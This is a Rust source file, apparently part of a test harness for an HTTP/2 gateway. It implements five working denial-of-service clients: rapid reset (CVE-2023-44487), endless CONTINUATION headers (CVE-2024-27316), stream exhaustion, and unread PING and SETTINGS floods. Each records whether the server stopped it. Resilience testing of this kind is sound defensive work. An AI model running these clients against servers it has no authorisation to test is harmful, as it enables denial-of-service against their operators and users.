//! HTTP/2 spoken badly, frame by frame (RFC 9113).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use super::frames::{
    END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, opening, stream,
};

/// How an attack went.
#[derive(Debug)]
pub struct End {
    /// Frames that were sent.
    pub frames: usize,
    /// Whether the server put an end to it, or kept it from having an effect.
    pub was_stopped: bool,
}

/// A client that misbehaves until it is stopped.
pub type Attack = fn(SocketAddr) -> End;

pub const ATTACKS: [(&str, Attack); 5] = [
    ("rapid reset (CVE-2023-44487)", rapid_reset),
    ("endless CONTINUATION (CVE-2024-27316)", continuation),
    ("more streams than allowed", many_streams),
    ("pings that are not read", pings),
    ("settings that are not read", settings),
];

/// Frames after which a server that has not taken offence never will.
const FRAMES_MAX: usize = 40_000;

const CONTINUATION: u8 = 9;

/// `GET /`, by HPACK's static table, of the authority `x`.
const GET: &[u8] = &[0x82, 0x84, 0x86, 0x41, 1, b'x'];

/// Sends the opening and then what `next` makes of the number of each step, while what comes
/// back is read and thrown away, or is not read at all.
fn attack(gateway: SocketAddr, reads: bool, mut next: impl FnMut(usize) -> Vec<u8>) -> End {
    let mut connection = TcpStream::connect(gateway).expect("connections are taken");
    // Who sends without being read is stopped, too.
    connection
        .set_write_timeout(Some(Duration::from_secs(2)))
        .expect("sockets have timeouts");
    let mut listening = connection.try_clone().expect("sockets are cloned");
    let reader = reads.then(|| {
        thread::spawn(move || while matches!(listening.read(&mut [0; 65536]), Ok(1..)) {})
    });
    let mut sent = connection.write_all(&opening(None));
    let mut frames = 0;
    while sent.is_ok() && frames < FRAMES_MAX {
        sent = connection.write_all(&next(frames));
        frames += 1;
    }
    connection.shutdown(std::net::Shutdown::Both).ok();
    if let Some(reader) = reader {
        reader.join().expect("the reader does not panic");
    }
    End {
        frames,
        was_stopped: sent.is_err(),
    }
}

/// Opens streams and takes them back at once.
fn rapid_reset(gateway: SocketAddr) -> End {
    attack(gateway, true, |step| {
        let stream = stream(step);
        let mut frames = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET);
        frames.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
        frames
    })
}

/// Headers that do not end.
fn continuation(gateway: SocketAddr) -> End {
    // A literal header without indexing: `x: y…`.
    let mut header = vec![0, 1, b'x', 100];
    header.extend([b'y'; 100]);
    let headers = header.repeat(10);
    attack(gateway, true, move |step| match step {
        0 => frame(HEADERS, END_STREAM, 1, GET),
        _ => frame(CONTINUATION, 0, 1, &headers),
    })
}

/// Streams that are opened with a body to come, which does not come.
fn many_streams(gateway: SocketAddr) -> End {
    attack(gateway, true, |step| {
        frame(HEADERS, END_HEADERS, stream(step), GET)
    })
}

/// Each is to be answered, and no answer is read.
fn pings(gateway: SocketAddr) -> End {
    attack(gateway, false, |_| frame(PING, 0, 0, &[0; 8]).repeat(64))
}

/// Each is to be acknowledged, and nothing is read.
fn settings(gateway: SocketAddr) -> End {
    attack(gateway, false, |_| frame(SETTINGS, 0, 0, &[]).repeat(64))
}
